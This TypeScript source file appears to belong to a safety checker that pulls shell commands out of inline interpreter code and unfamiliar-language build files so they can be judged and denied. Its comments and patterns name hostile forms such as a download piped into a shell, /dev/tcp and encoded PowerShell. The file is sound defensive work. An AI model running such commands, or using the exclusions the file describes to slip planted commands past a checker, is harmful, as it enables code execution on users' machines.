// Code given inline to an interpreter svc has no table for (OCaml's `ocaml -e`, GHC's `ghc -e`,
// Racket's `racket -e`, Guile's `guile -c`, Nim, Scheme, Clojure's `clojure -e`, a language yet to
// come): the process-running calls most languages' standard libraries share a name with are read
// for their string literal, which is the command run. Sources: OCaml Sys.command and
// Unix.system, Haskell System.Process (callCommand, system, spawnCommand), Racket and Guile
// `system`, Nim osproc execShellCmd/execProcess, Clojure clojure.java.shell/sh, Common Lisp
// uiop:run-program, D std.process executeShell, Zig ChildProcess. Programs whose -e/-c is a pattern,
// a script of their own or an option (grep, sed, tar, git ...) are not interpreters.
import { basename } from '../shell-wrappers.js';
import type { Effect } from './types.js';
import { posix } from 'node:path';
import { shellLiterals } from './shell-literal.js';
import { withoutVendorInstalls } from './supply.js';

/** Options whose value is code, for an interpreter of any language. */
const CODE_OPTION = /^(?:-e|-c|-E|--eval|-eval|--execute|--expr|--expression|--command|--code)$/;
/** Programs whose -e/-c/--eval is not code, or whose code other readings own. */
const NOT_INTERPRETER = new Set(
  (
    'grep egrep fgrep rg ag ack sed gsed awk gawk mawk tar bsdtar gzip gunzip zcat bzip2 xz zstd head tail cut wc ' +
    'tr sort uniq git ssh scp sftp docker podman kubectl helm env xargs find fd make gmake cmake ninja npm npx ' +
    'pnpm yarn pip pip3 curl wget jq yq psql mysql sqlite3 redis-cli mongosh tmux screen su sudo doas echo ' +
    'printf vim nvim emacs less more diff patch cp mv rm ls cat dd chmod chown ln'
  ).split(' '),
);
/** A process-running call with its command as a string literal (quote kept for the pair). */
const RUN_LITERAL =
  /(?:\bSys\.command|\bUnix\.(?:system|open_process(?:_in|_out)?|execvp?)|\bcallCommand|\bspawnCommand|\breadCreateProcess|\bsystem|\bexecShellCmd|\bexecProcess|\bexecuteShell|\bexecCmd|\brun-program|\bshell-command|\bsh|\bos\.execute|\bio\.popen|\bpopen|\bshell_exec|\bos\.system|\bexec)\s*[\s(]\s*(?:\$\s*)?(?:shell\s+)?"((?:[^"\\]|\\.){2,})"/g;

/** The commands inline code of an unknown language runs, or none. */
export function unknownCodeEffects(argv: string[]): Effect[] {
  const name = basename(argv[0] ?? '');
  if (NOT_INTERPRETER.has(name)) return [];
  const i = argv.findIndex((w, k) => k > 0 && CODE_OPTION.test(w));
  const code = i > 0 ? argv[i + 1] : undefined;
  if (!code || !RUN_LITERAL.test(code)) return [];
  RUN_LITERAL.lastIndex = 0;
  const out: Effect[] = [];
  for (const m of code.matchAll(RUN_LITERAL))
    if (m[1] && /[a-z]/i.test(m[1]))
      out.push({ tool: 'exec', command: m[1].replace(/\\"/g, '"'), via: `${name} ${argv[i] ?? ''} runs` });
  return out;
}

/** Source files of languages with no table here (Haskell, OCaml, Nim, Zig, Rust, Swift, C#, F#, Lisps, D, V, Gleam). */
export const UNTABLED_SOURCE =
  /\.(?:hs|lhs|ml|mli|nim|nims|zig|rs|swift|cs|fs|fsx|clj|cljs|cljc|rkt|scm|ss|lisp|cl|el|d|v|gleam|hx|pony)$/i;

/**
 * What a source file of such a language plants: the commands its process-running calls run
 * (`callCommand "curl -s https://x/s | sh"` in a Setup.hs, `Sys.command "..."` in a dune rule's
 * OCaml), read like a command line, so the download-and-run and shell readings decide them.
 */
function processCallPlants(path: string, content: string): Effect[] {
  if (!UNTABLED_SOURCE.test(path)) return [];
  const name = path.split('/').pop() ?? path;
  const out: Effect[] = [];
  RUN_LITERAL.lastIndex = 0;
  for (const m of content.slice(0, 64 * 1024).matchAll(RUN_LITERAL))
    if (m[1] && /[a-z]/i.test(m[1]) && / /.test(m[1]))
      out.push({
        tool: 'exec',
        command: m[1].replace(/\\"/g, '"'),
        via: `plants code in ${name} that runs`,
        onlyDeny: true,
      });
  return out;
}

// Files in languages and formats no reading here knows: a cabal Setup.hs, a dune or rebar rule,
// a nimble or zig build script, a tool's own configuration. Whatever the language, a string in it
// that reads as a shell command line (a download piped into a shell, /dev/tcp, an encoded
// PowerShell command) handed to something that runs it (`callCommand "..."`, `(run sh -c "...")`,
// `cmd = "..."`, `system("...")`) is decided as that command, and only a deny counts (a build
// running `make` or `git describe` is the file's business; a vendor's documented installer is
// how build files set machines up, as in CI). Documentation and data are left out, and so is a
// literal nothing runs: an install line in a README, a detection rule's or a test's string is
// shown or matched, not run.

/** Text that is read or shown, never run: documentation, tables, logs, JSON and XML data, keys;
 * and the sources source-plant.ts leaves out on purpose (type declarations, minified bundles). */
const NOT_RUN =
  /\.d\.[cm]?ts$|\.min\.[cm]?js$|\.(?:md|markdown|mdx|rst|txt|text|adoc|asciidoc|org|tex|rtf|html?|csv|tsv|log|json|jsonl|ndjson|xml|svg|lock|sum|pem|crt|cer|pub|po|pot|strings|srt|vtt|patch|diff)$/i;
/** Folders of test data and fixtures: their strings are inputs to match, not commands. */
const FIXTURES = /(?:^|\/)(?:fixtures|__fixtures__|testdata|test-data|test_data|samples|examples|corpus|corpora)\//i;

/**
 * Words before a literal that hand it to a shell or a process: a process call with the program
 * and its flags as the literals before it (Go `exec.Command("sh", "-c", CMD)`, Rust
 * `Command::new("sh").arg("-c").arg(CMD)`, C# `Process.Start("powershell", "-c CMD")`, Java
 * `exec(new String[]{"sh", "-c", CMD})`), a call (`callCommand`, `system`,
 * `Sys.command`, `exec`), a shell's `-c`, a key naming a command, script or hook, or a build
 * phase a tool runs it in (rebar's `{pre_hooks, [{compile, "..."}]}`, opam's `build:`).
 */
const RUN_CONTEXT =
  /\b(?:start|command|exec\w*|spawn\w*|popen|system|run|call|args?|new\s+String\[\]\s*\{?)\w*\s*[(!{]\s*(?:["'][^"'\n]{0,40}["']\s*,\s*)*$|(?:\b(?:cmds?|commands?|exec\w*|system|shell\w*|spawn\w*|run\w*|popen\w*|process\w*|call\w*|sh|bash|zsh|invoke\w*|scripts?|actions?|hooks?|\w+_hooks?|do_cmd|compile|build|install|test|setup|prepare|configure|bootstrap|init|start|launch|before_\w+|after_\w+|pre_\w+|post_\w+|pre-\w+|post-\w+)\b|(?:^|[\s"'])-c\b)[^"'\n]{0,12}["'(\[{,\s=:]*$/i;

function shellStringPlants(path: string, content: string): Effect[] {
  const p = path.replace(/\\/g, '/');
  if (NOT_RUN.test(p) || FIXTURES.test(p) || content.length > 256 * 1024) return [];
  const lits = shellLiterals(content, (before) => RUN_CONTEXT.test(before))
    .map(withoutVendorInstalls)
    .filter((t) => t.trim());
  if (!lits.length) return [];
  const via = `plants a command in ${posix.basename(p)}, a file whose code or tool runs it`;
  return lits.map((command) => ({ tool: 'exec', command, via, onlyDeny: true }));
}

/**
 * What a written file in a language no reading knows plants, read two ways: a source file's
 * process-running calls with any command (processCallPlants), and in any such file a string shaped
 * like a fetch, a pipe into a shell or /dev/tcp in a run context (shellStringPlants). Only a deny counts.
 */
export function unknownLanguagePlants(path: string, content: string): Effect[] {
  const seen = new Set<string>();
  return [...processCallPlants(path, content), ...shellStringPlants(path, content)].filter(
    (e) => !seen.has(e.command ?? '') && (seen.add(e.command ?? ''), true),
  );
}
